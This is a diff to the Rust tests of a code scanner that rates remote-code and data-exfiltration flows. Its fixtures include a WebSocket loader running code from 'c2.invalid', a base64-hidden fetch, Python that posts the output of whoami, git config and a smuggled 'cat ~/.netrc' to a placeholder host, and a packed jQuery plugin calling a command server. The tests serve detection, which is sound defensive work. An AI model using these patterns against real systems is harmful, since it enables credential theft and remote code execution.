@@ -38,6 +38,17 @@ fn what_a_page_has_from_its_own_server_is_no_remote_code() {
     assert!(severity("'/api'", "fetch('https://other.invalid/x');") > Severity::Medium, "who answers is not known");
     let handed = "export function rows(url) { return fetch(url).then(r => r.json()); }";
     assert!(severity("'/api'", handed) <= Severity::Medium, "what callers ask for is theirs");
+    let hot = |host: &str| {
+        let code = format!(
+            "var ws = new WebSocket((location.protocol === 'https:' ? 'wss' : 'ws') + '://' + {host} + ':1234/');\nws.onmessage = function (e) {{ var d = JSON.parse(e.data); d.assets.forEach(function (a) {{ new Function('require', a.js)(require); }}); }};\n"
+        );
+        let outcome = outcome(Language::JavaScript, &code);
+        let flows = flows::judge(&outcome, false);
+        let found = flows.iter().find(|f| f.rule.id == "flow-remote-code").unwrap_or_else(|| panic!("{code}"));
+        found.finding(crate::model::Evidence::note("")).severity
+    };
+    assert!(hot("location.hostname") <= Severity::Medium);
+    assert!(hot("'c2.invalid'") > Severity::Medium);
     let hidden = "fetch(atob('aHR0cHM6Ly9jb2RlLmludmFsaWQv'));";
     assert!(severity("'/api'", hidden) > Severity::Medium);
 }
@@ -84,12 +95,68 @@ fn keys_of_services_are_no_wallets() {
     let told = |code: &str| rules(Language::JavaScript, code).contains(&"flow-key-sent");
     assert!(told(&client("secretKey", "k: this.secretKey")));
     assert!(!told(&client("apiKey, secretKey", "k: this.secretKey")));
-    let push = |more: &str| {
+}
+
+#[test]
+fn tools_tell_their_services_what_a_project_is() {
+    let told = |command: &str| {
+        let code = format!(
+            "import subprocess, requests\nout = subprocess.check_output({command})\nrequests.post('https://h.invalid/x', json={{'o': out}})\n"
+        );
+        rules(Language::Python, &code).contains(&"flow-output-sent")
+    };
+    for command in [
+        "['pip', 'list', '--format=json']",
+        "['git', 'log', '-1']",
+        "['node', '--version']",
+        "[sys.executable, '-m', 'pip', 'freeze']",
+    ] {
+        assert!(!told(command), "{command}");
+    }
+    for command in [
+        "['whoami']",
+        "['git', 'log', '-p']",
+        "['git', 'config', '--list']",
+        "'pip list; cat ~/.netrc', shell=True",
+        "['ps', 'aux']",
+    ] {
+        assert!(told(command), "{command}");
+    }
+}
+
+#[test]
+fn a_packed_script_of_a_page_is_one_of_a_page() {
+    // What Dean Edwards' packer makes of a text: its words by their numbers in base 36.
+    let packed = |code: &str| {
+        let mut words: Vec<String> = Vec::new();
+        let mut text = String::new();
+        for part in code.split_inclusive(|c: char| !c.is_ascii_alphanumeric()) {
+            let word = part.trim_end_matches(|c: char| !c.is_ascii_alphanumeric());
+            let at = words.iter().position(|w| w == word).unwrap_or(words.len());
+            if !word.is_empty() {
+                text.push(char::from_digit(at as u32, 36).unwrap());
+                words.resize(words.len().max(at + 1), word.to_owned());
+            }
+            text.push_str(part.strip_prefix(word).unwrap());
+        }
         format!(
-            "import requests{more}\nclass Push:\n    def __init__(self, privatekey):\n        self.privatekey = privatekey\n    def send(self, text):\n        requests.post('https://push.invalid/api', data={{'k': self.privatekey, 'm': text}})\n"
+            "eval(function(p,a,c,k,e,d){{while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}}('{text}',36,{},'{}'.split('|'),0,{{}}))",
+            words.len(),
+            words.join("|")
         )
     };
-    let told = |code: &str| rules(Language::Python, code).contains(&"flow-key-sent");
-    assert!(!told(&push("")));
-    assert!(told(&push("\nfrom web3 import Web3")));
+    let severity = |code: &str| {
+        let text = packed(code);
+        let outcome = outcome(Language::JavaScript, &text);
+        let flows = flows::judge(&outcome, false);
+        let worst = flows.iter().map(|f| f.finding(crate::model::Evidence::note("")).severity).max();
+        worst.unwrap_or_else(|| panic!("{text}: {:?}", outcome.events))
+    };
+    use crate::model::Severity;
+    let rest = format!("/*{}*/", "some words and others ".repeat(60));
+    let plugin = |address: &str| {
+        format!("{rest} (function(j){{j.fn.complete=function(url){{jQuery.ajax({{url:{address}}})}}}})(jQuery)")
+    };
+    assert!(severity(&plugin("url")) <= Severity::Medium);
+    assert!(severity(&plugin("\"https://c2.invalid/x\"")) > Severity::Medium);
 }
